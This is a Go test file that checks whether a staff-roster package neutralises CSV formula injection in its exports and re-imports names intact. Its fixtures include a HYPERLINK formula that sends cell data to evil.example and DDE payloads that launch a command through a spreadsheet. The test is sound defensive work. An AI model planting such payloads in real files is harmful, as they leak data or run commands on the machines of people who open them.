package staff

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVInjectionNeutralised: a name typed as a formula, and a target's
// reason, come out of the roster and plan CSV files as text (prefixed
// with an apostrophe), not as formulas a spreadsheet would run; the
// roster file imported back gives the name as typed.
func TestCSVInjectionNeutralised(t *testing.T) {
	evil := `=HYPERLINK("https://evil.example/?v="&B2,"Voir le dossier")`
	email := "piege@exemple.fr"
	m := Member{ID: 7, FullName: evil, Email: &email, Function: Counsellor, FTE: 1, HiredOn: d("2019-09-01"), Status: NotEngaged, Employer: "@SUM(1+1)*cmd|' /C calc'!A0"}
	out := RosterCSV([]Member{m})
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\xef\xbb\xbf"))))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("relecture : %v", err)
	}
	for _, cell := range recs[1] {
		if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("cellule exécutable dans l'export de l'effectif : %q", cell)
		}
	}
	if !bytes.Contains(out, []byte(`'=HYPERLINK`)) {
		t.Errorf("nom non neutralisé : %s", out)
	}
	plan := BuildPlan(nil, []Target{{Year: 2027, Target: 1, Reason: "-1+1+cmd|' /C calc'!A0"}}, d("2027-05-15"))
	pc := string(PlanCSV(plan))
	if !strings.Contains(pc, "'-1+1+cmd") || strings.Contains(pc, ";-1+1+cmd") {
		t.Errorf("motif non neutralisé : %s", pc)
	}
	// The file imported back: the apostrophe is taken off again.
	p := parseRecords(mustRecords(t, out), 1, []Member{m}, d("2027-05-15"))
	if len(p.Errors) != 0 || len(p.Rows) != 1 || p.Rows[0].Member.FullName != evil || p.Rows[0].Action != ActionUnchanged {
		t.Fatalf("réimport : %v %+v", p.Errors, p.Rows)
	}
}

func mustRecords(t *testing.T, data []byte) [][]string {
	t.Helper()
	recs, err := readRecords("effectif.csv", data)
	if err != nil {
		t.Fatal(err)
	}
	return recs
}
